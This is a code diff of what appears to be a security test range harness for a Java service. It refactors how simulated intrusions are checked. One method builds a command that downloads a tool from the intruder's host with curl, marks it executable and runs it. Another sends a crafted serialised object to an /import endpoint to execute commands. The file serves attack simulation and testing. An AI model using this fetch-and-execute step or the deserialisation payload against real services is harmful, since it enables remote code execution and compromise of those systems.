@@ -15,7 +15,7 @@ from service_clients import Client
 from baseline.demo.attacker import ADDRESS
 from baseline.demo.service import Server, Step
 from ranges.intruder import Intruder
-from ranges.target import Target, require
+from ranges.target import Target, require, require_success
 
 _SOURCE = Path(__file__).parents[1] / "programs" / "Orders.java"
 _OPTIONS = ("-Xmx96m", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1")
@@ -98,7 +98,7 @@ class JavaTarget(Target[Java]):
 
     def operations(self) -> Sequence[Step]:
         """A health check from inside, a backup of the journal, a restart."""
-        inside = self.server.cgroup.run
+        inside = self.run_inside
         health = f"curl -s -o health http://127.0.0.1:{self.server.port}/orders"
         here = {"cwd": self.server.folder}
         return (
@@ -111,13 +111,13 @@ class JavaTarget(Target[Java]):
         )
 
     def _collect(self) -> None:
-        process = str(self.server.process.pid)
-        subprocess.run(["jcmd", process, "GC.run"], check=False, stdout=subprocess.DEVNULL)
+        command = ["jcmd", str(self.server.process.pid), "GC.run"]
+        require_success(subprocess.Popen(command, stdout=subprocess.DEVNULL), "jcmd")
 
     def ways_in(self, intruder: Intruder) -> Sequence[Step]:
         """What the deserialised object does when it is read."""
         tool = self.scratch() / "tool"
-        fetch = f"curl -s -o {tool} {intruder.tool}; chmod +x {tool}; {tool} x; id"
+        fetch = f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
         return (
             Step("a deserialised object runs a command", lambda: self._send("run", "id", b"uid=")),
             Step(
@@ -144,7 +144,9 @@ class JavaTarget(Target[Java]):
 
     def _send(self, order: str, argument: str, sign: bytes) -> None:
         job = serialised("Orders$Job", {"argument": argument, "order": order})
-        require(self.server.ask("POST", "/import", job), sign, "Deserialisation")
+        answer = self.server.ask("POST", "/import", job)
+        # What it says of an error may hold the sign, too.
+        require(answer if not answer.startswith(b"refused") else b"", sign, "Deserialisation")
 
 
 def serialised(name: str, fields: Mapping[str, str]) -> bytes:
